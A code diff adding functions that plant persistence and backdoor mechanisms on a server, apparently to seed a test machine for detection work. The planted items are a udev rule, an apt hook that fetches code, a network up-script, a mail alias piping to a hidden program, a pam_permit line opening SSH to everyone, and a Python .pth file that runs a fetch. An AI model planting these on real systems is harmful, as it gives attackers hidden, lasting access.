@@ -134,3 +134,40 @@ def module_line_that_runs(server: Server) -> str:
     path = program(server, "/var/tmp/.k/probe")
     text(server, "/etc/modprobe.d/net.conf", f"install dummy9 {path}\n")
     return path
+
+
+@plant()
+def udev_rule_of_a_hidden_program(server: Server) -> str:
+    path = program(server, "/usr/lib/udev/.net/up")
+    return text(server, "/etc/udev/rules.d/99-net.rules", f'ACTION=="add", RUN+="{path}"\n')
+
+
+@plant()
+def hook_of_apt_that_fetches(server: Server) -> str:
+    hook = f'DPkg::Post-Invoke {{"{FETCH}";}};\n'
+    return text(server, "/etc/apt/apt.conf.d/99update-check", hook)
+
+
+@plant()
+def script_of_a_network_interface(server: Server) -> str:
+    path = program(server, "/var/tmp/.up/run")
+    return text(server, "/etc/network/if-up.d/zz-mtu", f"#!/bin/sh\n{path}\n", 0o755)
+
+
+@plant()
+def mail_alias_that_runs_a_program(server: Server) -> str:
+    path = program(server, "/dev/shm/.m/in")
+    return text(server, "/etc/aliases", f'postmaster: root\nrobot: "|{path}"\n')
+
+
+@plant()
+def line_of_pam_that_lets_everybody_in(server: Server) -> str:
+    append(server, "/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
+    return "/etc/pam.d/sshd"
+
+
+@plant()
+def start_up_code_of_python(server: Server) -> str:
+    folder = "/usr/local/lib/python3.11/dist-packages"
+    code = f"import os; os.system('{FETCH} &')\n"
+    return text(server, f"{folder}/zz_fix.pth", code)
